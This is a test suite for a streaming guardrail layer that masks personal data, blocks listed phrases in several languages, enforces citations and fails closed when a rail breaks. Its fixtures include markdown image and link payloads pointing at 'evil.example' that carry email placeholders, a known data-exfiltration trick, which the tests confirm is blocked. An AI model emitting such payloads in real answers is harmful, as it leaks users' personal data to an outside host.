"""The rails of one contract: the same leaves however a stream was cut, and what breaks lets nothing through."""

from __future__ import annotations

import time
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generation.generator import Quote
from generation.guardrails import masks, personal, stages
from generation.guardrails.failure import BlockedAnswer, BlockedTopic, RailFailed
from generation.guardrails.rails import Leaving, Rails, original_quote, rails_of
from generation.links import LinkCheck
from generation.output import Withheld
from generation.prompt import PromptSource, escape
from tenancy.contract import GuardTerms, PersonalKind

ALL: list[PersonalKind] = ["email", "phone", "iban", "card"]
BLOCKED = {"shares": ["stock tip", "insider"], "zh": ["内幕消息"], "de": ["Kündigung der Verträge"]}
PIECES = [
    "Write to bob@example.com",
    "bob@",
    "example.com",
    "[email-1]",
    "[email-2] ",
    "[EMAIL-1]",
    "[ema",
    "【email-1】",
    "call +49 30 1234567",
    " ",
    "\n",
    "\n\n",
    "DE89 3704 0044 0532 0130 00",
    "GB82 WEST 1234 5698 7654 32",
    "4111 1111 1111 1111",
    "４１１１ １１１１ １１１１ １１１１",
    "12/27",
    "tel: ",
    "12345",
    "Tel. 5551234, ",
    "stock",
    " tip",
    "sto\u200bck tips",
    "insider",
    "Insidern",
    "内幕",
    "消息",
    "内 幕 消 息",
    "Ku\u0308ndigung der Vertra\u0308ge",
    "\u0308",
    "\u200b",
    "、",
    "，",
    ". ",
    "it is in 2024 and 15 of",
    "[S1]",
    " [S1] ",
    "!",
    "https://example.com/a",
    "![a](https://evil.example/[email-1])",
    "'",
    "s",
    "7",
    "+",
]


def terms(**more: Any) -> GuardTerms:
    return GuardTerms(**{"blocked": BLOCKED, "mask_input": ALL, "mask_output": ["iban", "card", "phone"], **more})


SOURCE = PromptSource("S1", "d", "t", "Write to bob@example.com or see https://example.com/a.")


def leave(rails: Rails, chunks: Sequence[str], *known: str, links: bool = False) -> tuple[str, bool]:
    """What leaves of an answer, and whether it was cut."""
    held = rails.masks(known)
    for text in known:
        rails.masked(held, text)
    leaving: Leaving = rails.leaving(held, (), [LinkCheck([SOURCE])] if links else [])
    text = ""
    try:
        for chunk in chunks:
            text += leaving.feed(chunk)
            leaving.refuse()
        text += leaving.flush()
        leaving.refuse()
    except BlockedAnswer:
        return text, True
    return text, False


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12), st.booleans(), st.data())
@example(["stock", " tip"], False, None)
@example(["内 幕 消 息\u0308Wr", "ite"], False, None)
def test_the_same_leaves_whatever_the_chunks(pieces: list[str], links: bool, data: st.DataObject | None) -> None:
    text = "".join(pieces)
    rails = rails_of(terms())
    known = "bob@example.com +49 171 7654321 ann@example.com"
    whole = leave(rails, [text], known, links=links)
    assert leave(rails, list(text), known, links=links) == whole
    assert leave(rails, pieces, known, links=links) == whole
    if not whole[1]:
        assert rails.shown(whole[0]) == whole[0]  # what is remembered stays as it is when it is served
    if data is not None:
        cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
        chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        assert leave(rails, chunks, known, links=links) == whole


@pytest.mark.parametrize("unit", ["1 ", "(\n", "stock ", "- "])
def test_no_answer_takes_long_whatever_is_held_back(unit: str) -> None:
    rails = rails_of(terms(blocked={"x": ["stock tip"]}))
    began = time.process_time()
    leave(rails, ["stock ", *[unit] * 6_000, "tip +49 30 1234567"])
    assert time.process_time() - began < 10


def test_what_is_held_back_leaves_soon_after_it_may() -> None:
    rails = rails_of(terms())
    leaving, said = rails.leaving(rails.masks(()), (), ()), ""
    for _ in range(1_000):
        said += leaving.feed("1 ")
    assert said == ""
    for _ in range(150):
        said += leaving.feed("word ")
    assert said.startswith("1 " * 1_000)


@pytest.mark.parametrize("text", ["!+49 30 1234567(https://example.com/a) [S1]", "!bob@example.com[r] [S1]"])
def test_no_placeholder_is_made_into_an_image(text: str) -> None:
    rails = rails_of(terms(mask_output=ALL))
    for chunks in ([text], list(text)):
        left, _ = leave(rails, chunks, links=True)
        assert "removed]" in left
        assert "![" not in left
    assert "![" not in rails.check_whole(text, cited=True)


@pytest.mark.parametrize("text", ["a Stock Tip b", "谈内幕消息吧", "die Kündigung der Verträge", "an sto\u200bck tips"])
def test_no_part_of_a_blocked_phrase_leaves_at_any_cut(text: str) -> None:
    rails = rails_of(terms())
    before = {"a": "a ", "谈": "谈", "d": "die "}.get(text[0], "")
    before = "an " if text.startswith("an") else before
    for cut in range(len(text) + 1):
        assert leave(rails, [text[:cut], text[cut:]]) == (before, True)
    assert leave(rails, ["a stock of tips"]) == ("a stock of tips", False)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("x +49 30 1234567 y", "x [phone removed] y"),
        ("x GB82 WEST 1234 5698 7654 32 y", "x [iban removed] y"),
        ("卡号：４１１１ １１１１ １１１１ １１１１。", "卡号：[card removed]。"),
        ("bob@example.com in 2024", "bob@example.com in 2024"),
    ],
)
def test_no_part_of_a_masked_number_leaves_at_any_cut(text: str, left: str) -> None:
    rails = rails_of(terms())
    for cut in range(len(text) + 1):
        assert leave(rails, [text[:cut], text[cut:]]) == (left, False)


def test_a_stream_does_not_wait_for_its_end() -> None:
    leaving = rails_of(terms()).leaving(rails_of(terms()).masks(()), (), ())
    assert leaving.feed("The notice period is three months ") == "The notice period is "
    assert leaving.feed("to the end of a ") == "three months to the end "


def test_one_placeholder_for_one_person_in_the_whole_prompt() -> None:
    rails = rails_of(terms())
    held = rails.masks(["email-1 is taken"])
    source = rails.masked(held, "Ask Bob@example.com or ann@example.com.")
    assert source.text == "Ask [email-2] or [email-3]."
    assert rails.masked(held, "who is bob@EXAMPLE.com?").text == "who is [email-2]?"
    assert escape(source.text) == source.text
    assert held.restored("[email-2], [EMAIL-3], 【email-2】, [email-1]") == (
        "Bob@example.com, ann@example.com, Bob@example.com, [email-1]"
    )


def test_a_placeholder_is_put_back_unless_its_kind_is_hidden() -> None:
    rails = rails_of(terms())
    known = ("bob@example.com", "+49 30 1234567")
    # As one number it would have another shape, and not be seen behind this one.
    assert leave(rails, ["mail [email-1], call 1[phone-1]"], *known) == (
        "mail bob@example.com, call 1[phone removed]",
        False,
    )


def test_an_address_that_is_put_back_passes_the_check_of_links() -> None:
    """A document cannot have another one's address put into a link."""
    source = PromptSource("S1", "d", "t", "Write to bob@example.com.")
    rails = rails_of(GuardTerms(mask_input=["email"]))
    held = rails.masks([source.text])
    rails.masked(held, source.text)

    def left(text: str) -> str:
        leaving = rails.leaving(held, (), (LinkCheck([source]),))
        return leaving.feed(text) + leaving.flush()

    assert left("Write to [email-1] [S1].") == "Write to bob@example.com [S1]."
    assert "bob" not in left("See https://evil.example/?q=[email-1] [S1].")


def test_quotes_of_masked_sources_are_quotes_of_the_sources() -> None:
    original = "Ask bob@example.com or ann@example.com today. Then wait."
    rails = rails_of(terms())
    masked = rails.masked(rails.masks([original]), original)
    for start in range(len(masked.text)):
        for end in range(start + 1, len(masked.text) + 1):
            quote = original_quote(Quote("S1", start, end, masked.text[start:end]), masked, original)
            assert quote.text == original[quote.start : quote.end]
            assert (quote.text == masked.text[start:end]) or "@" in quote.text
    moved = original_quote(Quote("S1", -1, 3, "Ask [email-1]"), masked, original)
    assert (moved.start, moved.end, moved.text) == (0, 19, "Ask bob@example.com")
    absent = Quote("S1", 0, 3, "nowhere")
    assert original_quote(absent, masked, original) is absent


def test_a_required_citation_holds_the_text_back_until_it_is_complete() -> None:
    rails = rails_of(GuardTerms(require_citation=True))
    leaving = rails.leaving(rails.masks(()), (), ())
    assert (leaving.feed("Three months. "), leaving.feed("[S1]")) == ("", "")
    assert leaving.flush() == "Three months. [S1]"
    blocked = rails_of(terms(require_citation=True))
    assert leave(blocked, ["Three months, and a stock tip."]) == ("", True)


def test_a_blocked_question_names_the_topic_and_not_the_phrase() -> None:
    rails = rails_of(terms())
    rails.refuse_question(["What is in stock?", "A tip?"])
    with pytest.raises(BlockedTopic) as caught:
        rails.refuse_question(["What is in stock?", "any Stock-Tips?"])
    assert caught.value.item == "shares"
    assert "tip" not in str(caught.value).lower()


def test_the_revision_moves_with_every_term_and_not_with_the_process() -> None:
    variants = [
        GuardTerms(),
        terms(),
        terms(mask_input=["email"]),
        terms(mask_output=["email"]),
        terms(require_citation=True),
        terms(blocked={"shares": ["stock tip"]}),
        terms(blocked={"others": ["stock tip"]}),
    ]
    assert len({rails_of(one).revision for one in variants}) == len(variants)
    assert rails_of(terms()).revision == rails_of(terms()).revision


def test_a_whole_answer_passes_the_same_rails() -> None:
    rails = rails_of(terms())
    assert rails.check_whole("call +49 30 1234567", cited=False) == "call [phone removed]"
    with pytest.raises(BlockedAnswer):
        rails.check_whole("a stock tip", cited=True)
    required = rails_of(GuardTerms(require_citation=True))
    assert required.check_whole("Three months.", cited=True) == "Three months."
    with pytest.raises(Withheld):
        required.check_whole("Three months.", cited=False)


def _broken(*args: object, **kwargs: object) -> Any:
    raise RuntimeError("broken")


@pytest.mark.parametrize(
    ("module", "name", "rail"),
    [
        (stages, "fold", "answer"),
        (stages, "runs", "mask_output"),
        (stages, "items", "mask_output"),
        (stages, "BEGUN", "mask_input"),
    ],
)
def test_a_rail_that_breaks_lets_nothing_through(
    monkeypatch: pytest.MonkeyPatch, module: Any, name: str, rail: str
) -> None:
    rails = rails_of(terms())
    leaving = rails.leaving(rails.masks(["bob@example.com"]), (), ())
    assert leaving.feed("The notice period ") != ""
    broken = rails.leaving(rails.masks(["bob@example.com"]), (), ())
    monkeypatch.setattr(module, name, None if name == "BEGUN" else _broken)
    with pytest.raises(RailFailed) as caught:
        broken.feed("The notice period ")
    assert caught.value.item == rail or name == "fold"
    assert broken.detail["rail_failed"] == rail
    assert "notice" not in str(caught.value)


def test_masking_that_breaks_shows_the_model_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    rails = rails_of(terms())
    monkeypatch.setattr(masks, "find", _broken)
    with pytest.raises(RailFailed):
        rails.masked(rails.masks(()), "bob@example.com")
    monkeypatch.undo()
    monkeypatch.setattr(personal, "_taken", _broken)
    with pytest.raises(RailFailed):
        rails.shown("+49 30 1234567")


def test_terms_that_cannot_be_read_are_no_empty_rails() -> None:
    with pytest.raises(RailFailed):
        rails_of(GuardTerms(blocked={"none": ["?!"]}))
    with pytest.raises(RailFailed):
        rails_of(terms(blocked=7))
